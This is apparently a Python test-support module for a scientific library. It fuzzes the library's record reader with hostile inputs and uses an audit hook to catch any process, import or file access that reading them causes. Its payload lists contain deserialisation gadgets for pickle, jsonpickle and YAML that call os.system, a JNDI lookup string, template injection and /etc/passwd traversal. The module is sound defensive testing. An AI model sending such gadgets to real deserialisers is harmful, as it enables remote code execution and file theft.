"""Texts made to do harm, well-sealed, and what reading them does to the machine."""

import copy
import json
import os
import random
import sys
from contextlib import contextmanager
from functools import cache

from skbluetuna._utils._files import seal

# What a careless reader might look up, call, import, open, or fill the memory with.
NAMES = [
    "test", "norm.__class__", "os.system", "subprocess", "__import__", "builtins.eval",
    "sklearn.svm.SVC", "rv_histogram", "make_distribution", "../../etc/passwd",
    "file:///etc/passwd", "antigravity", "this", "pytest", "exec", "__reduce__", "",
]  # fmt: skip
VALUES = [
    None, True, False, -1, 0, 2**31, 10**300, 1e308, -0.5, 5e-324, "", "zzz", "nan",
    [], {}, [[]], {"float": "nan"}, {"py/object": "os.system"}, {"__class__": "Popen"},
    {"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["touch harm"]}]},
    {"$ref": "file:///etc/passwd"}, "cos\nsystem\n(S'touch harm'\ntR.",
    "gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    "!!python/object/apply:os.system ['touch harm']",
    ["-p", "antigravity", "--co"], {"tuple": [1]}, "{{7*7}}", "${jndi:ldap://x/y}",
]  # fmt: skip
RAW = [
    "", "[]", "{}", "null", "1", '"text"', "\0", "\ud800",
    "[" * 100_000, '{"a":' * 50_000,
    '{"format": NaN}', '{"format": 1e999}', '{"format": ' + "9" * 5000 + "}",
    "\x80\x04\x95cos\nsystem\n(S'touch harm'\ntR.",
    "import os; os.system('touch harm')",
]  # fmt: skip


def hostile_texts(records, n, seed=0):
    """So many texts, one record or raw text each, from what was honestly stored.

    Parameters
    ----------
    records : list of dict
        Records that a reader takes.
    n : int
        How many texts.
    """
    rng = random.Random(seed)
    for i in range(n):
        if i < len(RAW):
            yield RAW[i]
            continue
        record = copy.deepcopy(rng.choice(records))
        for _ in range(rng.choice([1, 1, 2, 4])):
            change(record, rng)
        yield seal(record)


def change(record, rng):
    """Put something hostile in one place of a record, at any depth."""
    place = record
    while True:
        keys = list(place) if isinstance(place, dict) else list(range(len(place)))
        key = rng.choice(keys) if keys else None
        if key is None:
            return
        inner = place[key]
        if isinstance(inner, dict | list) and inner and rng.random() < 0.85:
            place = inner
            continue
        what = rng.random()
        if what < 0.4:
            place[key] = rng.choice(NAMES)
        elif what < 0.8:
            place[key] = copy.deepcopy(rng.choice(VALUES))
        elif what < 0.9:
            place[key] = nested(rng.choice([3, 60, 400]))
        elif isinstance(place, dict) and len(record) > 1:
            place[rng.choice(NAMES)] = place.pop(key)
        return


def nested(depth):
    return json.loads('{"list": [' * depth + "1" + "]}" * depth)


# --- what is done meanwhile -----------------------------------------------------------

# Events of plain computing. All else (processes, sockets, imports, compiled or executed
# code, pickles, files) is told.
QUIET = {
    "object.__getattr__", "object.__setattr__", "sys._getframe", "builtins.id",
    "array.__new__", "fcntl.flock", "time.sleep",
}  # fmt: skip
# Where a distribution is frozen, scipy compiles this, with its own names in it.
SCIPYS = "\ndef _parse_args(self, "


class Watch:
    """An audit hook. It can not be taken off, but is still while nobody watches."""

    def __init__(self):
        self.seen, self.is_on, self._last = [], False, ""
        sys.addaudithook(self.note)

    def note(self, event, args):
        """Note an event."""
        if not self.is_on or event in QUIET:
            return
        is_bytes = args and isinstance(args[0], bytes)
        text = args[0].decode(errors="replace") if is_bytes else str(args[:1])
        is_own = self._last == "compile" if event == "exec" else text.startswith(SCIPYS)
        self._last = event if is_own else ""
        if not is_own:
            self.seen.append((event, *map(str, args[:3])))


@cache
def _watch():
    return Watch()


@contextmanager
def watched():
    """List what is done meanwhile."""
    watch = _watch()
    watch.seen.clear()
    watch.is_on = True
    try:
        yield watch.seen
    finally:
        watch.is_on = False


def harm(events, *, files=()):
    """Of these events, those that reading a text must not cause.

    Parameters
    ----------
    events : list of tuple
        From `watched`.
    files : collection of str
        What may be opened.
    """
    known = {os.fspath(file) for file in files}
    return [
        event
        for event in events
        if not (event[0] in ("open", "os.chmod", "os.truncate") and event[1] in known)
    ]
